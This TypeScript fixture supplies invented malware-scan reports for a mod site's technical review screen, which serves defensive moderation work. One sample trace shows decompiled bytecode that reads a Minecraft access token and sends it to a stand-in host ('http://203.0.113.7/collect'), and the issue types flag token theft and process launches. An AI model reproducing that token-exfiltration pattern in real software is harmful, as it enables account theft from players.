import type { FileReport, ReviewedTrace } from '#db/moderation/technical-review/shape.ts';

const created = '2026-01-15T09:30:00Z';

const trace = (id: string, given: Partial<ReviewedTrace>): ReviewedTrace => ({
  id,
  issue_id: 'issue',
  key: id.padEnd(64, '0'),
  jar: null,
  file_path: 'net/example/Example.class#run',
  decompiled_source: null,
  data: {},
  severity: 'medium',
  local_status: null,
  global_status: null,
  status: 'pending',
  ...given,
});

/** Findings that do not exist, of files that do not exist: what the screen of technical review looks like. */
export const madeUpReports: readonly FileReport[] = [
  {
    ...{ report_id: 'example-1', file_id: 'example-1', created, flag_reason: 'delphi', severity: 'severe' },
    ...{ file_name: 'totally-a-minimap-1.2.0.jar', file_size: 184_320, download_url: '' },
    issues: [
      {
        ...{ id: 'example-1a', report_id: 'example-1', issue_type: 'token_theft' },
        details: [
          trace('example1', {
            severity: 'severe',
            file_path: 'net/example/minimap/Updater.class#check',
            data: { values: ['net/minecraft/client/User.getAccessToken', 'http://203.0.113.7/collect'] },
            decompiled_source:
              'invokevirtual net/minecraft/client/User.getAccessToken()Ljava/lang/String;\nastore_1\nnew java/net/URL\ndup\nldc "http://203.0.113.7/collect"\ninvokespecial java/net/URL.<init>(Ljava/lang/String;)V\ninvokevirtual java/net/URL.openConnection()Ljava/net/URLConnection;',
          }),
        ],
      },
      {
        ...{ id: 'example-1b', report_id: 'example-1', issue_type: 'network_address' },
        details: [
          trace('example2', { severity: 'low', data: { values: ['https://maps.example.org/tiles'] } }),
        ],
      },
    ],
  },
  {
    ...{ report_id: 'example-2', file_id: 'example-2', created, flag_reason: 'delphi', severity: 'medium' },
    ...{ file_name: 'voice-helper-0.9.jar', file_size: 61_440, download_url: '' },
    issues: [
      {
        ...{ id: 'example-2a', report_id: 'example-2', issue_type: 'native_library' },
        details: [
          trace('example3', {
            jar: 'META-INF/jars/opus.jar',
            file_path: 'natives/opus.dll',
            data: { reason: 'windows' },
          }),
          trace('example4', {
            ...{ jar: 'META-INF/jars/opus.jar', file_path: 'natives/libopus.so', data: { reason: 'linux' } },
            ...{ global_status: 'safe', status: 'safe' },
          }),
        ],
      },
      {
        ...{ id: 'example-2b', report_id: 'example-2', issue_type: 'process_start' },
        details: [
          trace('example5', {
            ...{
              file_path: 'net/example/voice/Devices.class#list',
              data: { values: ['java/lang/ProcessBuilder.start'] },
            },
            ...{ local_status: 'unsafe', status: 'unsafe' },
          }),
        ],
      },
    ],
  },
];
